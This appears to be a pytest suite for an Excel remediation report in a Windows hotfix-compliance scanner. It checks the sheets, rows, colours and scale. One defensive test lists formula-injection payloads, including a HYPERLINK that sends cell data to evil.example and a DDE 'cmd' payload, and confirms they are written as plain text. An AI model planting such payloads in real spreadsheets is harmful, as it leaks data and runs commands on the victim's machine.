"""The remediation workbook, read back with openpyxl: every sheet against the findings."""

from __future__ import annotations

import zipfile
from dataclasses import replace
from datetime import UTC, datetime
from pathlib import Path

import pytest
from openpyxl import load_workbook
from openpyxl.utils import get_column_letter

from kbscan import app
from kbscan.evaluate import evaluate
from kbscan.model import KbDefinition, OsFacts, Status, Target
from kbscan.paths import data_dir
from kbscan.report.excel import SHEETS
from kbscan.report.excel_cells import STATUS_COLOURS
from kbscan.report.formats import OutputFormat
from kbscan.report.interface import Evaluation
from kbscan.report.workbook import ExcelReport
from tests.helpers import make_facts

NOW = datetime(2026, 11, 24, 9, 0, tzinfo=UTC)


@pytest.fixture(scope="module")
def demo(tmp_path_factory: pytest.TempPathFactory) -> tuple[Evaluation, Path]:
    out = tmp_path_factory.mktemp("demo")
    outcome = app.evaluate_facts(data_dir() / "demo" / "collected", "KB934709", out,
                                 [OutputFormat.XLSX], now=NOW)  # fmt: skip
    return outcome.evaluation, outcome.written[0]


def _rows(ws: object) -> list[dict[str, object]]:
    values = list(ws.iter_rows(values_only=True))  # type: ignore[attr-defined]
    header = values[0]
    return [dict(zip(header, row, strict=True)) for row in values[1:]]


def test_sheets_and_readability(demo: tuple[Evaluation, Path]) -> None:
    _, path = demo
    wb = load_workbook(path)
    assert wb.sheetnames == list(SHEETS)
    for name in ("Remediation", "Hosts", "Unreachable", "KB"):
        ws = wb[name]
        assert ws.freeze_panes == "A2", name
        assert ws.auto_filter.ref is not None and ws.auto_filter.ref.startswith("A1:"), name
        header = next(ws.iter_rows(max_row=1))
        assert all(c.font.bold for c in header), name
        assert ws.column_dimensions["A"].width >= 15, name
    assert len(wb["Summary"]._charts) == 1


def test_hosts_sheet_has_every_host_once(demo: tuple[Evaluation, Path]) -> None:
    evaluation, path = demo
    rows = _rows(load_workbook(path)["Hosts"])
    assert len(rows) == len(evaluation.findings)
    by_host = {r["Host"]: r for r in rows}
    for f in evaluation.findings:
        row = by_host[f.host]
        assert row["Status"] == f.status.value
        assert row["Reason"] == f.reason
        assert row["Installed version"] == (
            str(f.installed_version) if f.installed_version else None
        )
        assert row["Required version"] == (str(f.required_version) if f.required_version else None)
        assert row["Decided by"] == f.decided_by.value
        assert isinstance(row["Collected at"], datetime)
    # versions are text, never numbers or dates
    assert all(isinstance(r["Installed version"], (str, type(None))) for r in rows)


def test_remediation_sheet(demo: tuple[Evaluation, Path]) -> None:
    evaluation, path = demo
    wb = load_workbook(path)
    ws = wb["Remediation"]
    rows = _rows(ws)
    expected = {f.host: f for f in evaluation.findings if f.status.needs_action}
    assert sorted(r["Host"] for r in rows) == sorted(expected)
    assert [r["Status"] for r in rows] == sorted(
        (r["Status"] for r in rows),
        key=["NEEDS_SERVICE_PACK", "NEEDS_HOTFIX", "RESTART_PENDING", "SUSPECT"].index,
    )
    for row in rows:
        f = expected[str(row["Host"])]
        assert row["Site"] and row["Owner"]
        for board in ("Change ticket", "Approver", "Planned window", "Done"):
            assert row[board] is None
        if f.status is Status.NEEDS_HOTFIX:
            assert f.row is not None
            assert row["Package to apply"] == (
                f"KB934709 for Windows Server 2003 SP{f.row.service_pack} "
                f"{f.row.architecture.value} (Aqueue.dll {f.row.version})"
            )
            assert (
                row["Restart impact"] == "IIS Admin (IISADMIN) and every service that depends on it"
            )
        if f.status is Status.NEEDS_SERVICE_PACK:
            assert row["Prerequisite"] == "Install Windows Server 2003 SP2 first"
            assert str(row["Package to apply"]).startswith("KB934709 for Windows Server 2003 SP2 ")
    (validation,) = ws.data_validations.dataValidation
    assert validation.formula1 == '"Yes,No,Deferred,Not needed"'
    done = get_column_letter(list(rows[0]).index("Done") + 1)
    assert str(validation.sqref) == f"{done}2:{done}{len(rows) + 1}"


def test_unreachable_sheet(demo: tuple[Evaluation, Path]) -> None:
    evaluation, path = demo
    rows = _rows(load_workbook(path)["Unreachable"])
    unknown = {f.host: f for f in evaluation.findings if f.status is Status.UNKNOWN}
    assert {r["Host"] for r in rows} == set(unknown)
    for row in rows:
        failure = unknown[str(row["Host"])].facts.failure
        assert failure is not None
        assert row["Failure"] == failure.category.value and row["Message"] == failure.message
        assert row["What to try"]


def test_kb_sheet(demo: tuple[Evaluation, Path], kb: KbDefinition) -> None:
    _, path = demo
    ws = load_workbook(path)["KB"]
    rows = [r for r in _rows(ws) if r["File"]][: len(kb.files)]
    assert [(r["SP"], r["Architecture"], r["Version"], r["Size"], r["Platform"]) for r in rows] == [
        (x.service_pack, x.architecture.value, str(x.version), x.size, x.platform) for x in kb.files
    ]
    assert all(r["Date (UTC)"] == datetime(2007, 6, 6) for r in rows)


def test_status_cells_are_coloured(demo: tuple[Evaluation, Path]) -> None:
    _, path = demo
    ws = load_workbook(path)["Hosts"]
    seen = set()
    for (cell,) in ws.iter_rows(min_row=2, min_col=4, max_col=4):
        fill, _ = STATUS_COLOURS[Status(cell.value)]
        assert cell.fill.fgColor.rgb.endswith(fill), cell.value
        seen.add(cell.value)
    assert seen == {s.value for s in Status}


def test_summary_counts_and_chart(demo: tuple[Evaluation, Path]) -> None:
    evaluation, path = demo
    ws = load_workbook(path)["Summary"]
    values = list(ws.iter_rows(values_only=True))
    counts = {row[0]: row[1] for row in values if row[0] in {s.value for s in Status}}
    assert counts == {s.value: n for s, n in evaluation.counts().items()}
    labels = [row[0] for row in values]
    assert "By platform, service pack and architecture" in labels and "By site" in labels
    chart = ws._charts[0]
    assert chart.title is not None


HOSTILE = [
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1,1)",
    "\t=1+1",
    "\r=1+1",
    "\uff1d1+1",
    "\uff0bA1",
    "host\x1b[2J\x07with-controls",
]


def test_nothing_a_host_returns_becomes_a_formula(tmp_path: Path, kb: KbDefinition) -> None:
    findings = []
    for i, text in enumerate(HOSTILE):
        facts = make_facts(host=f"h{i}", version="6.0.3790.3959")
        assert facts.os is not None
        facts = replace(
            facts,
            computer_name=text,
            os=replace(facts.os, caption=text),
            target=Target(host=f"h{i}", site=text, owner=text, extra=(("rack", text),)),
        )
        findings.append(evaluate(replace(facts, host=text if i % 2 else f"h{i}"), kb))
    evaluation = Evaluation((kb,), tuple(findings), text, NOW, "0.1.0")
    path = ExcelReport().write_to(evaluation, tmp_path / "hostile.xlsx")
    wb = load_workbook(path)
    for ws in wb:
        for row in ws.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (ws.title, cell.coordinate, cell.value)
    with zipfile.ZipFile(path) as archive:
        for name in archive.namelist():
            if name.startswith("xl/worksheets/"):
                assert b"<f>" not in archive.read(name), name
    hosts = _rows(wb["Hosts"])
    assert {r["OS"] for r in hosts} >= {HOSTILE[0], HOSTILE[1]}
    assert "host\ufffd[2J\ufffdwith-controls" in {r["OS"] for r in hosts}


def test_ten_thousand_hosts_in_ten_thousand_rows_out(tmp_path: Path, kb: KbDefinition) -> None:
    base = make_facts(version="6.0.3790.3959")
    statuses = [Status.NEEDS_HOTFIX, Status.COMPLIANT]
    findings = []
    for i in range(10_000):
        f = evaluate(replace(base, host=f"srv{i:05d}"), kb)
        findings.append(replace(f, status=statuses[i % 2]) if i % 2 else f)
    evaluation = Evaluation((kb,), tuple(findings), "generated", NOW, "0.1.0")
    path = ExcelReport().write_to(evaluation, tmp_path / "big.xlsx")
    wb = load_workbook(path, read_only=True)
    hosts = [row[0] for row in wb["Hosts"].iter_rows(min_row=2, max_col=1, values_only=True)]
    assert len(hosts) == 10_000 and len(set(hosts)) == 10_000
    remediation = sum(1 for _ in wb["Remediation"].iter_rows(min_row=2, max_col=1))
    assert remediation == 5_000


def test_os_is_optional(tmp_path: Path, kb: KbDefinition) -> None:
    facts = replace(make_facts(), os=OsFacts(None, "5.2.3790", None, 2, 3))
    evaluation = Evaluation((kb,), (evaluate(facts, kb),), "x", NOW, "0.1.0")
    assert ExcelReport().write_to(evaluation, tmp_path / "x.xlsx").exists()
